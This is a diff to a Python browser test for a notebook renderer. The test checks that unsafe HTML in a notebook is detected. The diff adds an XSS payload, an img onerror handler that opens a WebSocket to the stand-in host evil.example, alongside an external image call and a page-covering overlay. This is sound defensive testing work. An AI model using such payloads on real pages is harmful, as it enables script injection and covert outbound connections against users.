@@ -116,6 +116,7 @@ def readable(desk):
 def test_the_test_sees_what_is_unsafe(jupyter, desk):
     """Shown as other packages do, payloads run, ask and cover: the checks are able to fail."""
     shown = [
+        "<img src=x onerror=\"window.opened = new WebSocket('ws://evil.example/socket')\">",
         PAYLOADS["handler-0"],
         "<img src=http://evil.example/x>",
         "<p style='position:fixed;inset:0;z-index:99999'>over</p>",
@@ -129,9 +130,9 @@ def test_the_test_sees_what_is_unsafe(jupyter, desk):
     desk.open("unsafe.ipynb")
     desk.run_all()
     desk.wait_for("BORDER here")
-    desk.until("() => window.pwned", "the script of a payload")
+    desk.until("() => window.pwned && window.opened", "the scripts of two payloads")
     assert desk.dialogs == ["1"]
-    assert any("evil.example" in url for url in desk.outside)
+    assert {"http://evil.example/x", "ws://evil.example/socket"} <= set(desk.outside)
     assert desk.page.evaluate(UNCOVERED, "BORDER here").startswith("covered by")
 
 
